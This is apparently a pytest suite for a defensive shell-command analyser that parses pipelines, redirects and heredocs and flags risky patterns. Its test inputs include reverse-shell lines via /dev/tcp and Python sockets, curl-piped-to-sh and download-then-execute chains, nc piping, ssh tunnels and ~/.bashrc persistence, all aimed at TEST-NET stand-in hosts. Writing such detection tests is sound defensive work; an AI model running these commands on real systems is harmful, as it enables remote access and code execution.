"""The shell walker: argv, pipelines, redirects, heredocs, substitutions, scripts, wrappers."""

from __future__ import annotations

import pytest

from corral.analysis import analyse, analyse_argv, hosts_of


def argvs(command: str) -> list[list[str]]:
    return [c.argv for c in analyse(command).commands]


def test_simple_and_list() -> None:
    assert argvs("ls -la /tmp && echo 'a b' || true; pwd") == [
        ["ls", "-la", "/tmp"], ["echo", "a b"], ["true"], ["pwd"]]  # fmt: skip


def test_pipeline_neighbours() -> None:
    cmds = analyse("cat f | grep x 2>&1 | nc 203.0.113.5 9 > out").commands
    assert [c.program for c in cmds] == ["cat", "grep", "nc"]
    assert cmds[2].pipe_from == ["cat", "grep"]
    assert cmds[0].pipe_to == ["grep", "nc"]
    assert [(r.op, r.target) for r in cmds[2].redirects] == [(">", "out")]
    assert [(r.op, r.target) for r in cmds[1].redirects] == [(">&", "1")]


def test_redirects_dev_tcp_and_append() -> None:
    cmds = analyse("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1; echo x >> ~/.bashrc").commands
    assert cmds[0].redirects[0].target == "/dev/tcp/203.0.113.5/4444"
    assert cmds[1].redirects[0].appends and cmds[1].redirects[0].target == "~/.bashrc"
    exec_cmd = analyse("exec 5<>/dev/tcp/203.0.113.5/80").commands[0]
    assert exec_cmd.redirects[0].op == "<>"


def test_heredoc_body_is_stdin_of_the_shell() -> None:
    a = analyse("bash <<'EOF'\necho hi\nuname -a\nEOF\n")
    assert ["uname", "-a"] in [c.argv for c in a.commands]
    assert any(r.op == "<<" and "uname" in r.target for r in a.commands[0].redirects)


@pytest.mark.parametrize(
    "command",
    ["cat <<'EOF' > tests/conftest.py\nimport os\nEOF\n",
     "cat > tests/conftest.py <<'EOF'\nimport os\nEOF\n",
     "cat <<EOF >tests/conftest.py 2>/dev/null\nimport os\nEOF\n"],
)  # fmt: skip
def test_heredoc_output_redirect_either_side(command: str) -> None:
    """`cat <<'EOF' > f` nests `> f` inside the heredoc node; it is the same write as `cat > f <<EOF`."""
    cat = analyse(command).commands[0]
    writes = [(r.op, r.target) for r in cat.redirects if r.writes]
    assert (">", "tests/conftest.py") in writes
    assert any(r.op == "<<" and r.target == "import os\n" for r in cat.redirects)


def test_command_and_process_substitution_are_walked() -> None:
    progs = [c.program for c in analyse('echo "$(id -u)" `hostname` <(date)').commands]
    assert {"id", "hostname", "date", "echo"} <= set(progs)


def test_python_body_facts_and_hosts() -> None:
    a = analyse("python3 -c 'import socket; s=socket.socket(); s.connect((\"203.0.113.9\", 4444))'")
    py = a.commands[0]
    assert {"py.socket", "py.connect"} <= py.facts
    assert ("203.0.113.9", 4444) in py.hosts
    assert "203.0.113.9:4444" in [str(h) for h in hosts_of(py)]


def test_python_writes_become_redirects() -> None:
    py = analyse("python -c \"open('/root/.bashrc','a').write('x')\"").commands[0]
    assert any(r.appends and r.target == "/root/.bashrc" for r in py.redirects)


def test_python_that_does_not_parse_is_flagged() -> None:
    py = analyse("python3 -c 'def ('").commands[0]
    assert "py.unparsed" in py.facts


def test_wrappers_unwrap_to_inner_command() -> None:
    progs = [c.program for c in analyse("sudo -u bob env A=1 nohup timeout 5 curl x").commands]
    assert progs == ["sudo", "env", "nohup", "timeout", "curl"]


def test_argv_entry_point() -> None:
    a = analyse_argv(["/bin/sh", "-c", "curl http://203.0.113.5/x | sh"])
    assert [c.program for c in a.commands] == ["sh", "curl", "sh"]
    assert "pipe_to_shell" in a.commands[2].facts


def test_parse_error_is_flagged_and_analysed_as_far_as_it_goes() -> None:
    a = analyse("ssh -R 80:a:1 h (")
    assert "parse_error" in a.flags
    assert a.commands[0].argv == ["ssh", "-R", "80:a:1", "h"]


def test_download_then_run_fact() -> None:
    cmds = analyse("curl -o /tmp/x http://203.0.113.5/x && chmod +x /tmp/x && /tmp/x").commands
    assert "exec_downloaded" in cmds[1].facts and "exec_downloaded" in cmds[2].facts
    assert not any("exec_downloaded" in c.facts for c in analyse(
        "curl -o d.json http://203.0.113.5/d && jq . d.json").commands)  # fmt: skip


def test_host_classes() -> None:
    from corral.analysis import classify_host

    assert "internal" in classify_host("10.1.2.3")
    assert "internal" in classify_host("100.64.0.1")
    assert "metadata" in classify_host("169.254.169.254")
    assert "loopback" in classify_host("127.0.0.1")
    assert "external" in classify_host("203.0.113.5")  # TEST-NET stands in for the outside
    assert "internal" in classify_host("db.svc.cluster.local")


def test_words_after_a_redirection_are_arguments() -> None:
    # tree-sitter hangs them on the redirection; bash passes them to the command
    cmd = analyse("ssh > /dev/null -R 8080:localhost:22 user@203.0.113.5").commands[0]
    assert cmd.argv == ["ssh", "-R", "8080:localhost:22", "user@203.0.113.5"]
    assert [(r.op, r.target) for r in cmd.redirects] == [(">", "/dev/null")]


def test_redirection_after_a_list_belongs_to_its_last_command() -> None:
    cmds = analyse("cd /tmp && echo x >> ~/.bashrc").commands
    assert cmds[0].redirects == [] and cmds[1].redirects[0].target == "~/.bashrc"


@pytest.mark.parametrize(
    "line",
    [
        "ls -la /tmp",
        "grep -rn 'a b' src | sort | uniq -c",
        "make && make install; echo done",
        "find . -name '*.py' -exec rm -f {} \\;",
        "cat a.txt 2>/dev/null | head -5 > out.txt",
        "echo c3No | base64 -d | sh",
        "sudo nohup ssh -R 1:a:2 h",
        'echo "x y" >> ~/.profile',
    ],
)
def test_fast_path_agrees_with_the_parser(line: str) -> None:
    from corral.analysis import shell
    from corral.analysis.model import Analysis

    fast, slow = Analysis(source=line), Analysis(source=line)
    assert shell._fast(line, fast)
    shell._script(line, slow, 0, "shell", {})

    def key(a: Analysis) -> list[object]:
        return [(c.argv, c.origin, sorted(c.facts), c.pipe_from, c.pipe_to,
                 [(r.op, r.target) for r in c.redirects]) for c in a.commands]  # fmt: skip

    assert key(fast) == key(slow)


def test_fast_path_declines_what_it_cannot_read() -> None:
    from corral.analysis import shell
    from corral.analysis.model import Analysis

    for line in ["a=1; $a", "echo $(id)", "for i in 1; do x; done", "cat <<EOF\nx\nEOF", "(ls)",
                 "export A=b", "echo {a,b}", "ls # c", "x &", "echo `id`"]:  # fmt: skip
        assert not shell._fast(line, Analysis(source=line)), line
